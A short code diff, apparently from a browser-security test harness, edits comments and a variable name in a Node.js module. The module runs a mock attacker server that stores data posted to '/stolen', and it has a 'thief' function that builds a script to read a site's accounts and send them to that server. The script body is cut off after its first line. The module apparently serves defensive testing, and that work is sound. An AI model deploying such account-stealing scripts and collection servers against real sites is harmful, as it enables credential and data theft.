@@ -1,4 +1,4 @@
-// The attacker's web server: pages to open in the browser, and a place to send what they steal.
+// The attacker's web server: serves pages for the browser, and receives what they steal.
 
 import { createServer } from "node:http";
 
@@ -8,7 +8,7 @@ export async function startAttacker() {
   const pages = new Map();
   const server = createServer((request, response) => {
     let body = "";
-    request.on("data", (piece) => { body += piece; });
+    request.on("data", (chunk) => { body += chunk; });
     request.on("end", () => {
       response.setHeader("Access-Control-Allow-Origin", "*");
       if (request.url === "/stolen") stolen.push(body);
@@ -21,8 +21,8 @@ export async function startAttacker() {
   return { origin, pages, stolen, stop: () => server.close() };
 }
 
-/** A script that reads the accounts of the origin on which it runs, and sends them to the attacker.
- * It blocks: when the page has loaded, it has run or it never will. */
+/** Returns a script that reads the accounts of its origin, and sends them to the attacker. The script
+ * blocks: once the page has loaded, it has run or will never run. */
 export function thief(attacker) {
   return `
     const read = new XMLHttpRequest();
